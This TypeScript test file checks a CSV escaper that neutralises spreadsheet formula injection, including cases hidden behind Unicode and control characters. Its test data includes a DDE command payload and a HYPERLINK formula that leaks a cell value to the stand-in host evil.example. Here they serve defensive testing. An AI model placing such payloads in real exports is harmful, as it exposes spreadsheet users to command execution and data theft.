import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvHeader } from '../../src/output/csv-cell.ts';

const cell = (value: unknown) => csvCell(JSON.stringify(value), false);

describe('cells that a spreadsheet would run', () => {
  it.each([
    ['equals', '=1+1'],
    ['plus', '+1'],
    ['minus', '-1'],
    ['at', '@SUM(A1)'],
    ['pipe', '|calc'],
    ['command', "=cmd|' /C calc'!A0"],
    ['link', '=HYPERLINK("https://evil.example?x="&A1,"click")'],
    ['minus and text', '-2+3+cmd|x'],
    ['at handle', '@handle'],
    ['space first', ' =1'],
    ['spaces first', '   +1'],
    ['tab first', '\t=1'],
    ['carriage return first', '\r=1'],
    ['line feed first', '\n=1'],
    ['tab alone', '\ttext'],
    ['return alone', '\rtext'],
    ['no-break space', '\u00a0=1'],
    ['ideographic space', '\u3000=1'],
    ['byte order mark', '\ufeff=1'],
    ['zero-width space', '\u200b=1'],
    ['zero-width joiner', '\u200d=1'],
    ['zero-width non-joiner', '\u200c-1'],
    ['word joiner', '\u2060@x'],
    ['mongolian separator', '\u180e=1'],
    ['soft hyphen', '\u00ad=1'],
    ['line separator', '\u2028=1'],
    ['combining mark', '\u0301=1'],
    ['hangul filler', '\u3164=1'],
    ['tag', '\u{e0041}=1'],
    ['variation selector', '\ufe0f=1'],
    ['several of them', '\ufeff \u200b\t\u2060=1'],
    ['full-width equals', '＝1'],
    ['full-width plus', '＋1'],
    ['full-width minus', '－1'],
    ['full-width at', '＠x'],
    ['full-width after space', '\u3000＝1'],
    ['small equals', '﹦1'],
    ['minus sign', '−1'],
    ['phone with spaces', '+49 30 1234567'],
    ['phone too short', '+12345'],
    ['phone too long', '+1234567890123456'],
    ['phone with zero', '+0123456789'],
    ['phone and more', '+4930123456\n=1'],
    ['phone as a sum', '+4930123456+1'],
  ])('%s', (_name, text) => expect(cell(text)).toBe(`'${text}`));

  it.each([
    ['NUL before', '\0=1', "'=1"],
    ['escape before', '\u001b=1', "'=1"],
    ['C1 before', '\u0085=1', "'=1"],
    ['bidi before', '\u202e=1', "'=1"],
    ['mark before', '\u200e+1', "'+1"],
    ['control inside a phone number', '+4930\u000012345678', '+493012345678'],
  ])('%s: dropped, then looked at', (_name, text, written) => expect(cell(text)).toBe(written));

  it('headers too', () => {
    const columns = [{ header: '=x', value: () => undefined }];
    expect(csvHeader(columns, false)).toEqual(["'=x"]);
    expect(csvHeader(columns, true)).toEqual(['=x']);
  });
});

describe('cells that are left as they are', () => {
  it.each([
    ['a phone number', '"+4930123456789"', '+4930123456789'],
    ['a negative number', '-1.10', '-1.10'],
    ['a long number', '12345678901234567890', '12345678901234567890'],
    ['an exponent', '1E5', '1E5'],
    ['true', 'true', 'true'],
    ['false', 'false', 'false'],
    ['null', 'null', ''],
    ['an empty string', '""', ''],
    ['text', '"a = b"', 'a = b'],
    ['lines', '"a\\r\\nb\\tc"', 'a\r\nb\tc'],
    ['an array', '[1.10, "=1"]', '[1.10, "=1"]'],
    ['an object', '{"a":\n 12345678901234567890}', '{"a": 12345678901234567890}'],
    ['an apostrophe', '"\'=1"', "'=1"],
    ['a list', '"* item"', '* item'],
    ['half a pair', '"\\ud800x"', '\ufffdx'],
  ])('%s', (_name, json, text) => expect(csvCell(json, false)).toBe(text));

  it('what is not there', () => expect(csvCell(undefined, false)).toBe(''));

  it.each(['=1+1', '\u202ex', '\u0000', '\u009b', '\t=1'])('%j when raw', (text) => {
    expect(csvCell(JSON.stringify(text), true)).toBe(text);
  });
});

it('no string of any kind begins a formula', () => {
  const evil = fc.string({
    unit: fc.oneof(
      fc.constantFrom('=', '+', '-', '@', '|', ' ', '\t', '\0', '\ufeff', '\u200b', '１', '1'),
      fc.string({ unit: 'binary', maxLength: 1 }),
    ),
    maxLength: 12,
  });
  fc.assert(
    fc.property(evil, (text) => {
      const written = cell(text);
      expect(
        /^\+[1-9]\d{6,14}$/.test(written) || !/^[\s\u200b-\u200d\u2060\ufeff]*[=+\-@|]/.test(written),
      ).toBe(true);
      expect(written).not.toMatch(/[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]/);
    }),
    { numRuns: 1000 },
  );
});
